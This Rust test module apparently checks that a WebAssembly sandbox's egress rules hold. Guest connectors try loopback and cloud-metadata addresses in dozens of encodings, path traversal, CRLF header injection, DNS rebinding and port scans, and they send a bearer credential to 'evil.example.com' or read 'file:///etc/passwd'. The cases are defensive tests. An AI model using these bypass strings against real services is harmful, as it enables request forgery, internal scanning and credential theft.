//! Guests that look for a server that nobody granted, for more than a grant
//! says, or for a secret.

use sortie_guests::answers::{self, Asked};
use sortie_guests::{connector_wat, data, wasi};

use super::attack::{Attack, connector};
use super::{GRANTED, TOKEN};

/// Hosts in every spelling that leads, or might lead, to where no guest
/// belongs; and whether the grant names them.
const HOSTS: [(&str, &str); 44] = [
    ("127.0.0.1", "loopback"),
    ("127.1", "loopback with two parts"),
    ("127.0.1", "loopback with three parts"),
    ("2130706433", "loopback as one number"),
    ("0x7f000001", "loopback in hexadecimal"),
    ("0x7f.0.0.0x1", "loopback, half in hexadecimal"),
    ("0177.0.0.1", "loopback in octal"),
    ("017700000001", "loopback as one octal number"),
    ("127.0.0.1.", "loopback with a dot at its end"),
    ("127.255.255.254", "the last of loopback"),
    ("[::1]", "loopback of IPv6"),
    ("[0:0:0:0:0:0:0:1]", "loopback of IPv6, in full"),
    ("[::ffff:127.0.0.1]", "loopback mapped into IPv6"),
    ("[::ffff:7f00:1]", "the same in hexadecimal"),
    ("[::127.0.0.1]", "loopback in the old embedding"),
    ("[64:ff9b::127.0.0.1]", "loopback behind NAT64"),
    ("[2002:7f00:1::]", "loopback in 6to4"),
    ("0.0.0.0", "any address"),
    ("0", "any address as one digit"),
    ("[::]", "any address of IPv6"),
    ("localhost", "loopback by name"),
    ("LOCALHOST", "the same in capitals"),
    ("localhost.", "the same with a dot at its end"),
    ("\u{ff11}\u{ff12}\u{ff17}.0.0.1", "loopback in wide digits"),
    (
        "\u{2460}\u{2461}\u{2466}.0.0.1",
        "loopback in circled digits",
    ),
    (
        "127\u{3002}0\u{3002}0\u{3002}1",
        "loopback with ideographic dots",
    ),
    ("\u{24db}ocalhost", "`localhost` with a circled letter"),
    ("127.0.0.1%2f", "loopback with an escape behind it"),
    ("%31%32%37.0.0.1", "loopback in escapes"),
    ("inside.example.com", "a name that leads to loopback"),
    (
        "mixed.example.com",
        "a name that leads to a public address and to loopback",
    ),
    ("169.254.169.254", "the metadata service"),
    ("0xa9fea9fe", "the metadata service in hexadecimal"),
    (
        "[::ffff:169.254.169.254]",
        "the metadata service mapped into IPv6",
    ),
    ("[fd00:ec2::254]", "the metadata service of IPv6"),
    ("100.100.100.200", "another metadata service"),
    ("169.254.1.1", "a link-local address"),
    ("[fe80::1]", "a link-local address of IPv6"),
    ("10.0.0.7", "a private address"),
    ("172.16.0.1", "another private address"),
    ("192.168.1.1", "a third private address"),
    ("100.64.0.1", "a shared address"),
    ("[fc00::1]", "a private address of IPv6"),
    ("224.0.0.1", "a group's address"),
];

/// The secret of a grant, as most services take one.
const BEARER: &str =
    "credential = { secret = \"token\", header = \"authorization\", prefix = \"Bearer \" }";

/// A grant of names and addresses, none of them private.
fn nothing_private(port: u16) -> String {
    let hosts = [
        "127.0.0.1",
        "localhost",
        "inside.example.com",
        "mixed.example.com",
        "169.254.169.254",
        "10.0.0.7",
    ];
    hosts
        .iter()
        .map(|host| format!("[[egress]]\nhost = \"{host}\"\nport = {port}\nschemes = [\"http\"]\n"))
        .collect()
}

/// A grant of the granted server, with more in it.
pub(super) fn server(port: u16, more: &str) -> String {
    format!(
        "[[egress]]\nhost = \"{GRANTED}\"\nport = {port}\nschemes = [\"http\"]\nprivate = true\n{more}\n"
    )
}

fn sending(asked: &Asked<'_>) -> Vec<u8> {
    connector(&answers::sender(asked, 1))
}

pub(super) fn addresses(private: u16) -> Vec<Attack> {
    let asks = nothing_private(private);
    let mut attacks: Vec<Attack> = HOSTS
        .iter()
        .enumerate()
        .map(|(n, (host, words))| {
            let url = format!("http://{host}:{private}/");
            let ends = match *host {
                // A URL that is none.
                "127.0.0.1%2f" => "invalid",
                _ => "denied",
            };
            Attack::new(
                format!("address-{}", n + 1),
                format!("a request to {words}, `{host}`"),
                ends,
                sending(&Asked::get(&url)),
                &asks,
            )
        })
        .collect();
    let by_wasi = [
        ("loopback", "127.0.0.1"),
        ("loopback-by-name", "localhost"),
        ("loopback-mapped", "[::ffff:127.0.0.1]"),
        ("loopback-as-a-number", "2130706433"),
        ("metadata", "169.254.169.254"),
        ("private", "10.0.0.7"),
        ("a-name-that-leads-to-loopback", "inside.example.com"),
        ("nobodys-host", "other.example.com"),
    ];
    attacks.extend(by_wasi.iter().map(|(name, host)| {
        Attack::new(
            format!("wasi-http-to-{name}"),
            format!("a request to `{host}` through `wasi:http`"),
            "denied",
            wasi_sender(&format!("{host}:{private}")),
            &asks,
        )
    }));
    attacks
}

/// A connector that asks for `http://{authority}/` through `wasi:http`.
fn wasi_sender(authority: &str) -> Vec<u8> {
    let imports = r#"
      (import "wasi:http/types@0.2.0" "[constructor]fields" (func $fields (result i32)))
      (import "wasi:http/types@0.2.0" "[constructor]outgoing-request"
        (func $request (param i32) (result i32)))
      (import "wasi:http/types@0.2.0" "[method]outgoing-request.set-scheme"
        (func $scheme (param i32 i32 i32 i32 i32) (result i32)))
      (import "wasi:http/types@0.2.0" "[method]outgoing-request.set-authority"
        (func $authority (param i32 i32 i32 i32) (result i32)))
      (import "wasi:http/types@0.2.0" "[method]outgoing-request.set-path-with-query"
        (func $path (param i32 i32 i32 i32) (result i32)))
      (import "wasi:http/types@0.2.0" "[method]future-incoming-response.subscribe"
        (func $subscribe (param i32) (result i32)))
      (import "wasi:http/types@0.2.0" "[method]future-incoming-response.get"
        (func $get (param i32 i32)))
      (import "wasi:io/poll@0.2.0" "[method]pollable.block" (func $block (param i32)))
      (import "wasi:http/outgoing-handler@0.2.0" "handle"
        (func $handle (param i32 i32 i32 i32)))
    "#;
    let extra = answers::tell(&wasi::HTTP_ERRORS) + &data(2_048, authority) + &data(3_000, "/");
    let body = format!(
        "(local $request i32) (local $future i32)
         (local.set $request (call $request (call $fields)))
         (drop (call $scheme (local.get $request)
           (i32.const 1) (i32.const 0) (i32.const 0) (i32.const 0)))
         (if (call $authority (local.get $request)
               (i32.const 1) (i32.const 2048) (i32.const {}))
           (then unreachable))
         (drop (call $path (local.get $request) (i32.const 1) (i32.const 3000) (i32.const 1)))
         (call $handle (local.get $request) (i32.const 0) (i32.const 0) (i32.const 4096))
         (if (i32.load8_u (i32.const 4096))
           (then (return (call $tell (i32.const 1) (i32.load8_u (i32.const 4104))
             (i32.const 0) (i32.const 0)))))
         (local.set $future (i32.load (i32.const 4104)))
         (call $block (call $subscribe (local.get $future)))
         (call $get (local.get $future) (i32.const 4096))
         (call $tell (i32.load8_u (i32.const 4112)) (i32.load8_u (i32.const 4120))
           (i32.const 0) (i32.const 0))",
        authority.len()
    );
    let wat = connector_wat(imports, &extra, &body);
    wasi::connector(
        &[
            "wasi:http/types@0.2.0",
            "wasi:http/outgoing-handler@0.2.0",
            "wasi:io/poll@0.2.0",
        ],
        &wat,
    )
}

/// What those would be without malice: a request through `wasi:http` that its
/// grant allows and gives a secret.
pub(super) fn granted_by_wasi(granted: u16) -> Attack {
    Attack::new(
        "wasi-http-that-is-granted",
        "a granted request through `wasi:http`",
        "ok",
        wasi_sender(&format!("{GRANTED}:{granted}")),
        &server(granted, BEARER),
    )
}

pub(super) fn grants(granted: u16, private: u16) -> Vec<Attack> {
    let origin = format!("http://{GRANTED}:{granted}");
    let hooks = server(granted, "path_prefix = \"/hooks/\"");
    let all = server(granted, "");
    let mut attacks = Vec::new();
    let paths = [
        ("parent", "/hooks/../admin", "denied"),
        ("escaped-parent", "/hooks/%2e%2e/admin", "denied"),
        ("escaped-slash", "/hooks/..%2fadmin", "invalid"),
        ("escaped-backslash", "/hooks/..%5cadmin", "invalid"),
        ("twice-escaped-parent", "/hooks/%252e%252e/admin", "invalid"),
        ("parameter", "/hooks/..;/admin", "invalid"),
        ("backslash", "/hooks/..\\..\\admin", "invalid"),
        ("longer-name", "/hooks2/", "denied"),
        ("other-case", "/HOOKS/", "denied"),
        ("doubled-slash", "//hooks/", "denied"),
    ];
    attacks.extend(paths.map(|(name, path, ends)| {
        Attack::new(
            format!("path-by-{name}"),
            format!("`{path}` where `/hooks/` is granted"),
            ends,
            sending(&Asked::get(&format!("{origin}{path}"))),
            &hooks,
        )
    }));
    let urls = [
        (
            "user-info",
            format!("http://{GRANTED}:{granted}@127.0.0.1:{private}/"),
            "invalid",
        ),
        (
            "user-info-the-other-way",
            format!("http://127.0.0.1:{private}@{GRANTED}:{granted}/"),
            "invalid",
        ),
        (
            "fragment",
            format!("{origin}/#@127.0.0.1:{private}/"),
            "invalid",
        ),
        (
            "other-host",
            format!("http://evil.example.com:{granted}/"),
            "denied",
        ),
        (
            "longer-host",
            format!("http://{GRANTED}.evil.example.com:{granted}/"),
            "denied",
        ),
        (
            "other-port",
            format!("http://{GRANTED}:{private}/"),
            "denied",
        ),
        (
            "other-scheme",
            format!("https://{GRANTED}:{granted}/"),
            "denied",
        ),
        ("file", "file:///etc/passwd".to_owned(), "invalid"),
        (
            "gopher",
            format!("gopher://127.0.0.1:{private}/_"),
            "invalid",
        ),
        ("no-url", "/just/a/path".to_owned(), "invalid"),
        ("line-break", format!("{origin}/\r\nx-a: b"), "invalid"),
    ];
    attacks.extend(urls.map(|(name, url, ends)| {
        Attack::new(
            format!("url-with-{name}"),
            format!("a URL with {}", name.replace('-', " ")),
            ends,
            sending(&Asked::get(&url)),
            &all,
        )
    }));
    let root = format!("{origin}/");
    let get = || Asked::get(&root);
    let asked = [
        (
            "host-header",
            "its own `host`",
            get().with(b"host", b"evil.example.com"),
            "invalid",
        ),
        (
            "length-header",
            "its own `content-length`",
            get().with(b"content-length", b"5"),
            "invalid",
        ),
        (
            "chunked-header",
            "its own `transfer-encoding`",
            get().with(b"transfer-encoding", b"chunked"),
            "invalid",
        ),
        (
            "connection-header",
            "its own `connection`",
            get().with(b"connection", b"x-a"),
            "invalid",
        ),
        (
            "proxy-header",
            "its own `proxy-authorization`",
            get().with(b"proxy-authorization", b"x"),
            "invalid",
        ),
        (
            "line-break-in-a-value",
            "a line break in a header field",
            get().with(b"x-a", b"b\r\nhost: evil.example.com"),
            "invalid",
        ),
        (
            "line-break-in-a-name",
            "a line break in a header field's name",
            get().with(b"x-a: b\r\nx-c", b"d"),
            "invalid",
        ),
        (
            "nul-in-a-value",
            "a NUL in a header field",
            get().with(b"x-a", b"b\0c"),
            "invalid",
        ),
        (
            "other-method",
            "`POST` where `GET` is granted",
            Asked {
                method: b"POST",
                ..get()
            },
            "denied",
        ),
        (
            "tunnel",
            "`CONNECT`",
            Asked {
                method: b"CONNECT",
                ..get()
            },
            "denied",
        ),
        (
            "request-in-a-method",
            "a whole request in the method",
            Asked {
                method: b"GET / HTTP/1.1\r\nx-a: b\r\n\r\nGET",
                ..get()
            },
            "invalid",
        ),
    ];
    attacks.extend(
        asked.map(|(name, tries, asked, ends)| {
            Attack::new(name, tries, ends, sending(&asked), &all)
        }),
    );
    attacks.push(
        Attack::new(
            "redirect",
            "a redirect to loopback, which comes back as it is and is not followed",
            "ok",
            sending(&Asked::get(&format!("{origin}/redirect/{private}"))),
            &all,
        )
        .hearing("moved"),
    );
    attacks.push(Attack::new(
        "answer-of-5-mib",
        "an answer of 5 MiB",
        "too-large",
        sending(&Asked::get(&format!("{origin}/large"))),
        &all,
    ));
    let rebind = format!("http://rebind.example.com:{granted}/");
    attacks.push(Attack::new(
        "name-that-changes-its-answer",
        "a second request to a name that now leads to the metadata service",
        "denied",
        connector(&answers::sender(&Asked::get(&rebind), 2)),
        &format!(
            "[[egress]]\nhost = \"rebind.example.com\"\nport = {granted}\nschemes = [\"http\"]\n\
             private = true\n"
        ),
    ));
    // What listens behind a host that is shut cannot be told from what does
    // not: the same words for a port with a server and for one without.
    let words = "at an address that its rule does not open";
    for (name, port) in [("open", private), ("closed", 1)] {
        let asks =
            format!("[[egress]]\nhost = \"localhost\"\nport = {port}\nschemes = [\"http\"]\n");
        attacks.push(
            Attack::new(
                format!("scan-of-an-{name}-port"),
                format!("whether a port of loopback is open: this one is {name}"),
                "denied",
                sending(&Asked::get(&format!("http://localhost:{port}/"))),
                &asks,
            )
            .hearing(words),
        );
    }
    attacks
}

pub(super) fn secrets(granted: u16) -> Vec<Attack> {
    let asks = server(granted, BEARER);
    let origin = format!("http://{GRANTED}:{granted}");
    let (echo, root) = (format!("{origin}/echo"), format!("{origin}/"));
    let case = |name: &'static str, tries: &'static str, ends, asked: &Asked<'_>| {
        Attack::new(name, tries, ends, sending(asked), &asks)
    };
    let elsewhere = format!("http://evil.example.com/?{}", "token");
    vec![
        case(
            "secret-by-reflection",
            "the credential, from a server that repeats what it is sent",
            "ok",
            &Asked::get(&echo),
        )
        .hearing("[redacted:token]"),
        case(
            "secret-by-its-own-header",
            "to put its own value where the credential goes",
            "invalid",
            &Asked::get(&root).with(b"authorization", b"Bearer mine"),
        ),
        case(
            "secret-by-template-in-a-url",
            "`${token}` in a URL, which stays what it is",
            "ok",
            &Asked::get(&format!("{origin}/?q=$token-{{token}}")),
        ),
        case(
            "secret-by-template-in-a-header",
            "`${token}` in a header field, which stays what it is",
            "ok",
            &Asked::get(&root).with(b"x-a", b"${token}"),
        ),
        case(
            "secret-to-another-host",
            "the credential, sent to another host",
            "denied",
            &Asked::get(&elsewhere),
        ),
        case(
            "secret-by-error",
            "an error of the connection with the credential in it",
            "denied",
            &Asked::get(&format!("https://{GRANTED}:{granted}/")),
        ),
        case(
            "secret-by-guess-in-a-url",
            "a request whose path holds what it believes to be the secret",
            "ok",
            &Asked::get(&format!("{origin}/{}", TOKEN.replace(['/', '+', '?'], "-"))),
        ),
    ]
}
